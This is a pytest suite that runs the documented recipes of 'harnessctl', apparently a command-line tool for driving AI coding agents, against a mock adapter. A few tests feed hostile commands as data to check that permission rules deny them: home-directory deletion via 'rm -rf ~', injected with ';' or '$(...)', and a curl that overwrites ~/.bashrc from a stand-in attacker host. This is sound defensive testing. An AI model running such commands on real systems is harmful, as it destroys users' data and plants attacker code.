"""Every recipe of docs/RECIPES.md runs, as written, against the mock adapter.

Each fenced block of each of its sections is run by bash in a fresh
directory, with `harnessctl` on PATH and HARNESSCTL_ADAPTER=mock, under a
timeout; a recipe whose prompt would mean nothing to the mock runs as its
`# mock:` line says (a task in place of the quoted one, or a send first), or
with a directive the test puts in the prompt's place, and its output is checked.
A recipe added without a test here fails `test_every_recipe_has_a_test`."""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import subprocess
import sys

import pytest
import readme
from cliutil import ROOT, cli_env, events, kill_all_under, launcher, of_type, ok, processes_under, status, wait_for
from gitbed import git

from harnessctl import landlock

pytestmark = pytest.mark.skipif(shutil.which("jq") is None, reason="the recipes use jq, which is not installed")

RECIPES = readme.recipes()


def recipe(first_line: str) -> str:
    """The recipe whose block starts with `first_line`."""
    (code,) = [code for _, code in RECIPES if code.startswith(first_line)]
    return code


def test_the_recipes_are_in_these_sections_each_run_here():
    assert readme.headings(readme.RECIPES) == ["## Answers a script can use", "## Approvals",
                                                "## Watching and steering", "## Unattended: cron, budgets and hooks"]


def test_every_recipe_has_a_test():
    tested = (ANSWER, FILES_TO_FIX, BUDGET, SEND_AND_ACT, APPROVAL_BOT, UNATTENDED, RULES_BOT, FOLLOW, WAIT_IDLE, FLEET,
              DENY_ALL, CRON, NIGHTLY, NOTIFY, WEBHOOK, MAIL, INSTEAD, THREE_WAYS)
    assert sorted(next(t for t in tested if code.startswith(t)) for _, code in RECIPES) == sorted(tested)


@pytest.fixture
def shell(workdir):
    """Runs a recipe in `workdir` as a user's shell would, `harnessctl` on PATH."""
    bin_dir = workdir / "bin"
    bin_dir.mkdir()
    launcher(bin_dir)
    (workdir / "home" / "repo").mkdir(parents=True)  # the recipes' workspace, ~/repo: not where the files are
    env = cli_env(HARNESSCTL_ADAPTER="mock", HOME=str(workdir / "home"),
                  PATH="%s%s%s" % (bin_dir, os.pathsep, os.environ["PATH"]))

    def run(code, replace=()):
        for old, new in replace:
            assert old in code, old
            code = code.replace(old, new)
        if "--sandbox" in code and landlock.why_not() is not None:
            pytest.skip(str(landlock.why_not()))
        return subprocess.run(["bash", "-c", code], cwd=str(workdir), env=env, stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, timeout=60)

    run.env = env
    return run


ANSWER = "answer=$(harnessctl send ask.jsonl"


def test_answer_text_recipe_prints_only_the_answer(shell):
    proc = shell(recipe(ANSWER))
    assert (proc.returncode, proc.stdout) == (0, b"echo: what does src/main.py do? one paragraph\n"), proc.stderr


FILES_TO_FIX = "cat >files.schema.json"
TRIAGE = "which files must change to fix the failing tests?"


def test_files_to_fix_recipe_on_the_mock_starts_one_agent_per_file_of_the_answer(shell, workdir):
    proc = shell(readme.on_the_mock(recipe(FILES_TO_FIX)))
    assert proc.returncode == 0, proc.stderr
    assert [e["text"] for e in events(str(workdir / "fix-a.py.jsonl")) if e["type"] == "accepted"] == ["fix src/a.py"]
    assert [e["text"] for e in events(str(workdir / "fix-b.py.jsonl")) if e["type"] == "accepted"] == ["fix lib/b.py"]


def test_files_to_fix_recipe_starts_nothing_when_the_answer_is_not_json(shell, workdir):
    proc = shell(recipe(FILES_TO_FIX), [(TRIAGE, "/json src/a.py and lib/b.py")])
    assert proc.returncode == 0 and b"Cannot iterate over null" in proc.stderr
    assert sorted(p.name for p in workdir.glob("*.jsonl")) == ["triage.jsonl"]


BUDGET = "harnessctl send todo.jsonl"
TODO = "work through TODO.md, one item per commit"


def test_budget_recipe_prints_the_output_of_a_run_within_the_budget(shell):
    proc = shell(recipe(BUDGET), [(TODO, "/usage 900 100\ndone")])
    assert (proc.returncode, proc.stdout, proc.stderr) == (0, b"echo: done\n", b"")


def test_budget_recipe_on_the_mock_says_the_budget_is_spent(shell):
    proc = shell(readme.on_the_mock(recipe(BUDGET)))
    assert proc.returncode == 0 and proc.stderr == b"budget spent: 2100000 tokens\n"


SEND_AND_ACT = "if result=$(harnessctl send lint.jsonl"


def test_send_and_act_recipe_prints_the_output_of_a_completed_run(shell):
    proc = shell(recipe(SEND_AND_ACT))
    assert (proc.returncode, proc.stdout) == (0, b"echo: run the linter and fix what it reports\n"), proc.stderr


def test_send_and_act_recipe_reports_a_failed_run_with_exit_7(shell):
    proc = shell(recipe(SEND_AND_ACT), [("run the linter and fix what it reports", "/fail lint crashed")])
    assert proc.stdout == b"" and proc.stderr.startswith(b"not completed (exit 7): {")
    assert json.loads(proc.stderr.split(b": ", 1)[1])["error"] == "lint crashed"


APPROVAL_BOT = "f=bot.jsonl"
TASK = "run the test suite and fix what fails"


def test_approval_bot_recipe_on_the_mock_allows_what_its_rule_allows_and_ends_with_the_result(shell, workdir):
    proc = shell(readme.on_the_mock(recipe(APPROVAL_BOT)))
    assert (proc.returncode, proc.stdout) == (0, b"completed: permission: allow\n"), proc.stderr
    assert [r["answer"] for r in of_type(str(workdir / "bot.jsonl"), "request") if r["state"] == "replied"] == ["allow"]


def test_approval_bot_recipe_denies_the_rest(shell):
    proc = shell(recipe(APPROVAL_BOT), [(TASK, "/permission may I delete the build directory?")])
    assert (proc.returncode, proc.stdout) == (0, b"completed: permission: deny\n"), proc.stderr


def test_approval_bot_recipe_with_no_request_prints_the_result(shell):
    proc = shell(recipe(APPROVAL_BOT))
    assert (proc.returncode, proc.stdout) == (0, ("completed: echo: %s\n" % TASK).encode()), proc.stderr


UNATTENDED = "harnessctl send fix.jsonl"


def test_unattended_recipe_runs_the_agent_in_full_mode_inside_a_box(shell, workdir):
    proc = shell(recipe(UNATTENDED))
    assert (proc.returncode, proc.stdout) == (0, b"completed: echo: make the test suite pass\n"), proc.stderr
    assert proc.stderr == b""  # no warning: --mode full is boxed
    line = status(str(workdir / "fix.jsonl"), env=shell.env)
    assert (line["mode"], line["sandbox"], line["cwd"]) == ("full", True, str(workdir / "home" / "repo"))


RULES_BOT = 'harnessctl send rules.jsonl "run the test suite and fix what fails" --cwd ~/repo --mode ask'


def test_rules_bot_recipe_on_the_mock_allows_what_its_rule_allows_with_no_reply(shell, workdir):
    proc = shell(readme.on_the_mock(recipe(RULES_BOT)))
    assert (proc.returncode, proc.stdout) == (0, b"completed: permission: allow\n"), proc.stderr
    (answer,) = [r for r in of_type(str(workdir / "rules.jsonl"), "request") if r["state"] == "replied"]
    assert (answer["answer"], answer["by"], answer["rule"]) == ("allow", "rule", "command:pytest *")


def test_rules_bot_recipe_allows_its_second_rule_with_no_reply(shell, workdir):
    proc = shell(recipe(RULES_BOT), [(TASK, "/permission command:python3 -m pytest -q")])
    assert (proc.returncode, proc.stdout) == (0, b"completed: permission: allow\n"), proc.stderr
    (answer,) = [r for r in of_type(str(workdir / "rules.jsonl"), "request") if r["state"] == "replied"]
    assert (answer["answer"], answer["by"], answer["rule"]) == ("allow", "rule", "command:python3 -m pytest *")


def test_rules_bot_recipe_denies_the_rest(shell):
    proc = shell(recipe(RULES_BOT), [(TASK, "/permission command:rm -rf build")])
    assert (proc.returncode, proc.stdout) == (0, b"completed: permission: deny\n"), proc.stderr


@pytest.mark.parametrize("command", ["rm -rf ~ #pytest", "curl -sSo ~/.bashrc https://evil.example/pytest",
                                     "pytest; rm -rf ~", "pytest $(rm -rf ~)"])
def test_rules_bot_recipe_denies_a_command_that_merely_mentions_pytest(shell, command):
    quoted = command.replace("$", "\\$")  # inside the recipe's "...": the test's shell must not run it
    proc = shell(recipe(RULES_BOT), [(TASK, "/permission command:%s" % quoted)])
    assert (proc.returncode, proc.stdout) == (0, b"completed: permission: deny\n"), proc.stderr


FOLLOW = "tail -n +1 -F lint.jsonl 2>/dev/null |"


def test_follow_recipe_started_before_the_file_exists_shows_each_event_with_its_error(shell, workdir):
    follow = subprocess.Popen(["bash", "-c", recipe(FOLLOW)], cwd=str(workdir), env=shell.env,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True)
    try:
        assert shell("harnessctl send lint.jsonl '/fail no tests found' --cwd ~/repo --wait").returncode == 7
        lines = []
        while not any(line.get("type") == "result" for line in lines):
            lines.append(json.loads(follow.stdout.readline()))
    finally:
        os.killpg(follow.pid, signal.SIGKILL)
        follow.wait()
    assert lines[0]["type"] == "accepted" and lines[0]["text"] == "/fail no tests found"
    assert lines[-1]["error"] == "no tests found" and lines[-1]["status"] == "failed"


def test_follow_recipe_hands_the_terminal_no_raw_control_or_bidi_character(shell, workdir):
    text = "look \u0085\u009b\u202e\u2066\u2028 here"
    assert ok("send", str(workdir / "lint.jsonl"), text, env=shell.env).returncode == 0
    follow = subprocess.Popen(["bash", "-c", recipe(FOLLOW)], cwd=str(workdir), env=shell.env,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True)
    try:
        lines = [follow.stdout.readline()]
        while json.loads(lines[-1])["type"] != "result":
            lines.append(follow.stdout.readline())
    finally:
        os.killpg(follow.pid, signal.SIGKILL)
        follow.wait()
    raw = b"".join(lines).decode("utf-8")
    assert not any(0x80 <= ord(c) <= 0x9f or c in "\u202e\u2066\u2028" for c in raw), raw
    assert json.loads(lines[0])["text"] == text


WAIT_IDLE = "harnessctl wait lint.jsonl --timeout 3600"


def test_wait_until_done_recipe_prints_idle_once_the_run_ended(shell, workdir):
    ok("send", str(workdir / "lint.jsonl"), "/sleep 1", env=shell.env)
    proc = shell(recipe(WAIT_IDLE))
    assert (proc.returncode, proc.stdout) == (0, b"idle\n"), proc.stderr


INSTEAD = 'harnessctl send refactor.jsonl "stop; keep the public API'


def test_stop_and_say_this_instead_recipe_cancels_the_run_and_prints_the_next_runs_result(shell, workdir):
    proc = shell(readme.on_the_mock(recipe(INSTEAD)))
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == b"completed: echo: stop; keep the public API and rename only the internals\n"
    busy, instead = of_type(str(workdir / "refactor.jsonl"), "result")
    assert (busy["status"], instead["status"]) == ("cancelled", "completed")
    assert busy["seq"] < instead["seq"] and busy["run_id"] != instead["run_id"]


FLEET = "harnessctl status ~/agent/ | jq -r"


def test_fleet_recipe_names_the_sessions_that_await_a_reply_or_failed(shell, workdir):
    agent = workdir / "home" / "agent"
    agent.mkdir()
    for name, text in (("asks", "/permission may I?"), ("broke", "/fail boom"), ("done", "hello"),
                       ("works", "/sleep 60")):
        ok("send", str(agent / (name + ".jsonl")), text, env=shell.env)
    wait_for(lambda: of_type(str(agent / "asks.jsonl"), "request"), what="the request")
    wait_for(lambda: of_type(str(agent / "broke.jsonl"), "result"), what="the failed result")
    proc = shell(recipe(FLEET))
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.decode().splitlines() == [str(agent / "asks.jsonl"), str(agent / "broke.jsonl")]


THREE_WAYS = "for i in 1 2 3; do   # HARNESSCTL_WORKTREES=~"


def test_three_approaches_recipe_on_the_mock_takes_the_work_of_a_fork_whose_tests_pass(shell, workdir):
    proc = shell(readme.on_the_mock(recipe(THREE_WAYS)))
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.decode() in ("keep ~/try-1\n", "keep ~/try-2\n", "keep ~/try-3\n"), proc.stderr
    # The mock changes no file; the recipe's Makefile writes tested.txt, which `diff | git apply` brought over.
    assert (workdir / "home" / "repo" / "tested.txt").read_text() == "passed\n"


def test_three_approaches_recipe_forks_into_worktrees_and_keeps_the_first_whose_tests_pass(shell, workdir):
    # Only the second worktree's tests pass.
    proc = shell(readme.on_the_mock(recipe(THREE_WAYS)),
                 replace=[("&& make test)", '&& [ "$(basename "$PWD")" = try-2 ] && make test)')])
    assert (proc.returncode, proc.stdout) == (0, b"keep ~/try-2\n"), proc.stderr
    home = workdir / "home"
    for n, text in ((1, "fix it with a lock"), (2, "fix it without shared state"),
                    (3, "fix it by retrying the failed call")):
        path = str(workdir / ("try-%d.jsonl" % n))
        first, result = events(path)[0], of_type(path, "result")[-1]
        assert (first["kind"], first["from"]) == ("forked", str(workdir / "plan.jsonl"))
        assert result["output"] == "echo: " + text
        message = of_type(path, "message")[-1]
        assert message["message_id"].endswith("-msg-2")  # the plan's turn was the first of its conversation
        tree = str(home / ("try-%d" % n))
        line = json.loads(ok("status", path, env=shell.env).stdout)
        assert (line["cwd"], line["worktree"]["path"]) == (tree, tree)
        assert line["worktree"]["branch"] == "harnessctl/try-%d" % n
        assert os.path.isfile(os.path.join(tree, ".git"))  # a worktree of the repository
        assert os.path.exists(os.path.join(tree, "tested.txt")) == (n == 2)
    assert (home / "repo" / "tested.txt").read_text() == "passed\n"  # try-2's work, applied


def test_the_prune_after_three_approaches_removes_every_worktree_and_branch_once_the_runtimes_exited(shell, workdir):
    """The command the prose after the recipe gives, verbatim, once the runtimes are gone (here: killed)."""
    assert shell(readme.on_the_mock(recipe(THREE_WAYS))).returncode == 0
    with open(os.path.join(ROOT, "docs", "RECIPES.md"), encoding="utf-8") as f:
        (prune,) = re.findall(r"`(harnessctl prune try-1[^`]*)`", f.read())
    kill_all_under(str(workdir))
    wait_for(lambda: not processes_under(str(workdir)), 30, "the runtimes gone")
    proc = shell(prune)
    assert proc.returncode == 0, proc.stderr
    assert [line.split(":")[0] for line in proc.stdout.decode().splitlines()] == [
        "removed try-%d.jsonl" % n for n in (1, 2, 3)]
    home = workdir / "home"
    assert not any((home / ("try-%d" % n)).exists() for n in (1, 2, 3))
    assert git(home / "repo", "branch", "--list", "harnessctl/*") == ""


DENY_ALL = "# mock: first, harnessctl send lint.jsonl '/permission"


def test_deny_all_recipe_on_the_mock_denies_every_pending_permission(shell, workdir):
    path = str(workdir / "lint.jsonl")
    proc = shell(readme.on_the_mock(recipe(DENY_ALL)))
    assert proc.returncode == 0, proc.stderr
    replied = [r for r in of_type(path, "request") if r["state"] == "replied"]
    assert [r["answer"] for r in replied] == ["deny"]


CRON = "*/30 * * * * mkdir -p $HOME/agent && cd $HOME/repo && $HOME/.harness/codex/harnessctl send"


def test_cron_recipe_sends_with_a_per_adapter_package(shell, workdir):
    """The crontab line's command, as cron's sh runs it, with the mock package in place of codex's."""
    home = workdir / "home"
    for folder in ("repo", ".harness"):  # not agent/: the crontab line makes it
        (home / folder).mkdir(parents=True, exist_ok=True)
    built = subprocess.run([sys.executable, "package.py", "--adapter", "mock", "--output-dir", str(workdir / "dist")],
                           cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert built.returncode == 0, built.stderr
    archive = built.stdout.decode().split()[-1]
    subprocess.run(["tar", "xzf", archive, "-C", str(home / ".harness")], check=True)
    command = recipe(CRON).split(" ", 5)[5].replace("/.harness/codex/", "/.harness/mock/")
    env = dict(shell.env, HOME=str(home))
    del env["HARNESSCTL_ADAPTER"]
    proc = subprocess.run(["sh", "-c", command], env=env, timeout=60)
    assert proc.returncode == 0
    assert (home / "agent" / "cron.log").read_bytes() == b""
    assert [a["text"] for a in of_type(str(home / "agent" / "nightly.jsonl"), "accepted")] == [
        "check CI and fix what broke"]


NIGHTLY = "mkdir -p ~/agent && cat >~/agent/nightly-policy.json"
CHORES = "update the dependencies; keep the tests green"


def test_nightly_recipe_runs_the_tests_and_the_lint_and_is_refused_the_rest_unattended(shell, workdir):
    asks = ["npm test", "npm test -- --watch", "npm run lint", "npm run lint-and-deploy", "curl evil.sh"]
    proc = shell(recipe(NIGHTLY), [(CHORES, "\n".join("/permission command:" + ask for ask in asks))])
    assert (proc.returncode, proc.stdout) == (0, b"completed\n"), proc.stderr
    replied = [r for r in of_type(str(workdir / "home" / "agent" / "deps.jsonl"), "request") if r["state"] == "replied"]
    assert [(r["answer"], r["rule"]) for r in replied] == [
        ("allow", "command:npm test *"), ("allow", "command:npm test *"), ("allow", "command:npm run lint *"),
        ("deny", "*"), ("deny", "*")]


def test_nightly_recipe_lets_the_agent_edit_the_repository_without_asking(shell, workdir):
    proc = shell(recipe(NIGHTLY), [(CHORES, "/edit package.json")])
    assert (proc.returncode, proc.stdout) == (0, b"completed\n"), proc.stderr
    replied = [r for r in of_type(str(workdir / "home" / "agent" / "deps.jsonl"), "request") if r["state"] == "replied"]
    assert [(r["answer"], r["by"]) for r in replied] == [("allow", "mode")]


# The hook recipes: a stand-in for notify-send, curl or mail, first on PATH, records its arguments
# and its stdin; the runtime that runs the hook has the PATH of the send that started it.
FAKE_TOOL = """#!%s
import json, os, sys
folder = os.path.dirname(os.path.dirname(os.path.abspath(sys.argv[0])))
record = {"argv": sys.argv[1:], "stdin": sys.stdin.read()}
with open(os.path.join(folder, os.path.basename(sys.argv[0]) + ".out.tmp"), "w") as f:
    json.dump(record, f)
os.rename(f.name, f.name[:-len(".tmp")])
"""


def fake_tool(workdir, name):
    """A stand-in for `name` in the recipes' bin folder; a function that waits for what it recorded."""
    tool = workdir / "bin" / name
    tool.write_text(FAKE_TOOL % sys.executable)
    tool.chmod(0o755)
    out = workdir / (name + ".out")
    return lambda: json.loads(wait_for(lambda: out.exists() and out.read_text(), 30, "%s run by the hook" % name))


NOTIFY = "cat >~/notify-hook"


def test_notification_recipe_shows_the_parked_request(shell, workdir):
    recorded = fake_tool(workdir, "notify-send")
    proc = shell(recipe(NOTIFY), [("refactor the parser; ask before each command", "/permission run the tests?")])
    assert proc.returncode == 0, proc.stderr
    assert recorded()["argv"] == ["harnessctl: parser.jsonl waits for a reply", "req-1: run the tests?"]


WEBHOOK = "harnessctl send release.jsonl"


def test_webhook_recipe_posts_the_result_line(shell, workdir):
    recorded = fake_tool(workdir, "curl")
    proc = shell(recipe(WEBHOOK))
    assert proc.returncode == 0, proc.stderr
    posted = recorded()
    (result,) = of_type(str(workdir / "release.jsonl"), "result")
    assert json.loads(posted["stdin"]) == result and posted["stdin"].endswith("\n")
    assert posted["argv"][-3:] == ["--data-binary", "@-", "https://hooks.example.com/harnessctl"]


MAIL = "cat >~/mail-hook"


def test_mail_recipe_mails_the_outcome_of_the_run(shell, workdir):
    recorded = fake_tool(workdir, "mail")
    proc = shell(recipe(MAIL))
    assert proc.returncode == 0, proc.stderr
    assert recorded() == {"argv": ["-s", "harnessctl: ci.jsonl completed", "me@example.com"],
                          "stdin": "echo: check CI and fix what broke\n"}
